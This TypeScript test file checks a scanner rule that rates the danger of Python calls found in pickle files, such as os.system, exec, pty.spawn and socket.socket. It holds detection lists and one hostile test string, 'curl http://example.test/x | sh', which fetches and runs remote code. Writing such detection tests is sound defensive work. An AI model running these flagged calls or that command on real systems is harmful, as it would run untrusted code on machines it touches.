// SPDX-License-Identifier: Apache-2.0
import { expect, test } from 'vitest';
import type { FactOf } from '../../src/model/fact.ts';
import type { Finding } from '../../src/model/finding.ts';
import codeReaches from '../../src/rules/code-reaches.ts';
import { judge } from '../../src/rules/judge.ts';

const code = (references: readonly string[], texts: readonly string[] = []): FactOf<'code'> => ({ kind: 'code', language: 'python-bytecode', name: 'f', imports: [], references, texts });
const judged = (fact: FactOf<'code'>): Finding[] =>
  judge([{ artefact: { id: 'a.pkl', size: 1, format: 'pickle', digests: {} }, coverage: 'complete', facts: [fact] }], [codeReaches], 'a');

test.for(['os.system', 'posix.system', 'subprocess.run', 'subprocess.Popen.communicate', 'builtins.eval', 'exec', 'ctypes.CDLL', 'marshal.loads', 'pty.spawn'])('%s is high', (name) => {
  expect(judged(code([name])).map(({ severity }) => severity)).toEqual(['high']);
});

test.for(['open', 'open.read', 'requests.get', 'urllib.request.urlopen', 'socket.socket', '__import__', 'importlib.import_module', 'pickle.loads', '?.__class__.__subclasses__', 'shutil.rmtree'])('%s needs a person', (name) => {
  expect(judged(code([name])).map(({ severity }) => severity)).toEqual(['medium']);
});

test.for([
  'os.path.join', 'os.getcwd', 'os.makedirs', 'os.environ.get', 'sys.exit', 'inspect.signature', 'json.loads', 'numpy.array', 'torch.no_grad', 'torch.jit.script', 'time.sleep', 'warnings.warn', 'logging.getLogger',
  '?.eval', '?.open', '?.run', '?.system', 'self.open', 're.compile', 'math.exp', 'subprocess', 'requests', 'model.eval', 'system', 'run', 'codecs.decode', 'code', 'evaluate', 'datetime.datetime.now',
])('%s is ordinary', (name) => {
  expect(judged(code([name]))).toEqual([]);
});

test('a shell command among the constants needs a person', () => {
  expect(judged(code([], ['curl http://example.test/x | sh'])).map(({ severity }) => severity)).toEqual(['medium']);
  expect(judged(code(['numpy.exp'], ['curl is a vector operator']))).toEqual([]);
});
